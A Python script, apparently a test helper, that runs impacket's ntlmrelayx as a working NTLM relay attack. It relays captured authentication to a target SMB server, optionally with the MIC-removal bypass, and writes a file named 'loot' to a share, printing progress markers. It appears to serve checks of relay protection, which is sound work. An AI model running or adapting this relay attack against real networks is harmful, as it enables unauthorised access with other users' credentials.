"""impacket's ntlmrelayx with an attack of our own: opens the share and leaves a file there.

    ntlmrelayx.py ADDRESS PORT TARGET-URL SHARE [--remove-mic]

Says READY, then LOGGED-IN and WRITTEN on standard output as far as it gets.
"""

import sys
import tempfile
import time
from unittest.mock import MagicMock

# Its attack on LDAP needs a library that Debian does not have; ours is on SMB.
for part in ("", ".system", ".system.Guid", ".system.DateTime", ".common", ".common.cryptography",
             ".common.cryptography.X509Certificate2", ".common.data", ".common.data.hello",
             ".common.data.hello.KeyCredential"):
    sys.modules["dsinternals" + part] = MagicMock()

# pylint: disable=wrong-import-position
from impacket.examples import logger
from impacket.examples.ntlmrelayx.attacks import ProtocolAttack
from impacket.examples.ntlmrelayx.clients import PROTOCOL_CLIENTS
from impacket.examples.ntlmrelayx.servers import SMBRelayServer
from impacket.examples.ntlmrelayx.utils.config import NTLMRelayxConfig
from impacket.examples.ntlmrelayx.utils.targetsutils import TargetsProcessor

SHARE = sys.argv[4]


class LeaveFile(ProtocolAttack):
    """What is done with a relayed session."""

    PLUGIN_NAMES = ["SMB"]

    def run(self):
        print("LOGGED-IN", flush=True)
        tree = self.client.connectTree(SHARE)
        self.client.closeFile(tree, self.client.createFile(tree, "loot"))
        print("WRITTEN", flush=True)


def main():
    """Serves until it is ended."""
    logger.init()
    address, port, target = sys.argv[1:4]
    config = NTLMRelayxConfig()
    config.setProtocolClients(PROTOCOL_CLIENTS)
    config.setTargets(TargetsProcessor(singleTarget=target, protocolClients=PROTOCOL_CLIENTS))
    config.setMode("RELAY")
    config.setAttacks({"SMB": LeaveFile})
    config.setLootdir(tempfile.mkdtemp())
    config.setSMB2Support(True)
    config.setDisableMulti(True)
    config.setInterfaceIp(address)
    config.setListeningPort(int(port))
    config.setExploitOptions("--remove-mic" in sys.argv, False)
    SMBRelayServer(config).start()
    print("READY", flush=True)
    while True:
        time.sleep(60)


main()
